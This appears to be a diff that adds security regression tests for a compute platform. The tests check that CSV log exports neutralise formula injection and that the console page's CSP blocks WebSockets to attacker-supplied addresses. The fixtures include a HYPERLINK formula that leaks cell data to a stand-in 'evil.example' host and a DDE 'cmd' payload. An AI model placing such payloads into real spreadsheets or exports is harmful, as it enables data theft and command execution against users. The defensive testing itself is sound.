@@ -1,7 +1,12 @@
 import crypto from 'node:crypto';
 import { startTestApi, expectError, type TestApi, type TestUser } from '../support/api';
 import { addHost, createInstance, finished, uniq } from '../support/compute';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { parse } from 'csv-parse/sync';
+import { WebSocketServer } from 'ws';
 import { MAX_IDEMPOTENCY_KEY } from '../../api/platform/http/route';
+import { describeBrowser, launchBrowser } from '../web/support';
 
 /** Issue 22, "the rest of the review": each attack through HTTP, as a second non-admin user where it needs one. */
 let api: TestApi;
@@ -109,4 +114,93 @@ describe('instance uuids: a safe alphabet, so the platform’s derived names can
     const { op } = await createInstance(api, mallory.token, { host_id: host.id, uuid: `ok_${crypto.randomBytes(3).toString('hex')}-1` });
     expect(op.status).toBe('succeeded');
   });
+});
+
+describe('CSV exports escape formulas (OWASP CSV injection)', () => {
+  it('a cell that starts with =, +, -, @, tab or CR is prefixed with a single quote, in the native and seed 002 exports', async () => {
+    const mod = `csv${crypto.randomBytes(3).toString('hex')}`;
+    const evil = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+    await api.deps.knex('log_entries').insert(evil.map((message, i) => ({ level: 'INFO', source: 'audit', module: mod, action: i === 0 ? '=cmd' : 'x', message, username: i === 1 ? '@evil' : 'ok' })));
+    const link = await api.call('GET', `/api/v1/logs/export?format=csv&module=${mod}`, { token: admin });
+    expect(link.status).toBe(200);
+    const native = await (await fetch(api.url + link.body.data.download_url)).text();
+    const compat = await api.call('GET', `/api/export?format=csv&module=${mod}`, { token: admin });
+    expect(compat.status).toBe(200);
+    for (const text of [native, compat.text]) {
+      const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
+      expect(rows.map((r) => r.message).sort()).toEqual(evil.map((m) => `'${m}`).sort());
+      expect(rows.find((r) => r.action !== 'x')?.action).toBe("'=cmd");
+      expect(rows.map((r) => r.username)).toContain("'@evil");
+      // No cell starts a formula.
+      for (const r of rows) for (const v of Object.values(r)) expect(/^[=+\-@\t\r]/.test(v)).toBe(false);
+    }
+  });
+});
+
+describe('the console page connects only to the platform’s own gateways', () => {
+  const gateway = 'ws://127.0.0.1:9/console';
+  beforeAll(async () => {
+    await api.deps.knex('console_gateways').insert({ url: gateway, task_queue: 'hardening-none' }).onConflict('url').merge();
+  });
+  afterAll(async () => { await api.deps.knex('console_gateways').where({ url: gateway }).delete(); });
+
+  it('names only the registered gateways in the CSP connect-src and in the page, never any ws:/wss: address', async () => {
+    for (const path of ['/console', '/console/vnc']) {
+      const res = await api.call('GET', path);
+      expect(res.status).toBe(200);
+      const csp = res.headers.get('content-security-policy')!;
+      const connect = /connect-src ([^;]+)/.exec(csp)![1].split(' ');
+      expect(connect).toContain("'self'");
+      expect(connect).toContain(gateway);
+      expect(connect).not.toContain('ws:');
+      expect(connect).not.toContain('wss:');
+      expect(connect.every((c) => c === "'self'" || /^wss?:\/\/[^/]+\/[^ ]*$/.test(c))).toBe(true);
+      expect(res.text).toContain(`content="[&quot;${gateway}&quot;`);
+    }
+    const script = await api.call('GET', '/console/assets/console.js');
+    expect(script.text).toContain('ownGateway(url)');
+  });
+});
+
+describeBrowser('the console page in chromium', () => {
+  it('does not open a WebSocket to an address given in the URL that is no gateway of the platform; it opens the platform’s', async () => {
+    const servers = await Promise.all(['127.0.0.5', '127.0.0.6'].map(async (host) => {
+      const server = http.createServer();
+      const wss = new WebSocketServer({ server });
+      let connections = 0;
+      wss.on('connection', (ws) => { connections++; ws.close(); });
+      await new Promise<void>((r) => server.listen(0, host, r));
+      return { url: `ws://${host}:${(server.address() as AddressInfo).port}/console`, count: () => connections, close: () => new Promise((r) => { wss.close(); server.close(r); }) };
+    }));
+    const [attacker, own] = servers;
+    await api.deps.knex('console_gateways').insert({ url: own.url, task_queue: 'hardening-none' });
+    const browser = await launchBrowser();
+    try {
+      let page = await browser.newPage();
+      await page.goto(`${api.url}/console#${encodeURIComponent(`${attacker.url}?ticket=stolen`)}`);
+      await page.getByText('No console address of this platform').waitFor({ timeout: 15_000 });
+      await page.close();
+      page = await browser.newPage();
+      await page.goto(`${api.url}/console#${encodeURIComponent(`${own.url}?ticket=t`)}`);
+      await page.getByText(/disconnected/).waitFor({ timeout: 15_000 });
+      expect(own.count()).toBe(1);
+      expect(attacker.count()).toBe(0);
+      // The CSP stops it even without the script's check: a WebSocket to the attacker from the page is refused by the browser.
+      const blocked = await page.evaluate((url) => new Promise<string>((resolve) => {
+        try {
+          const ws = new WebSocket(url);
+          ws.onopen = () => resolve('open');
+          ws.onerror = () => resolve('error');
+        } catch (e) {
+          resolve(`thrown: ${(e as Error).name}`);
+        }
+      }), attacker.url);
+      expect(blocked).not.toBe('open');
+      expect(attacker.count()).toBe(0);
+    } finally {
+      await browser.close();
+      await api.deps.knex('console_gateways').where({ url: own.url }).delete();
+      await Promise.all(servers.map((s) => s.close()));
+    }
+  }, 90_000);
 });
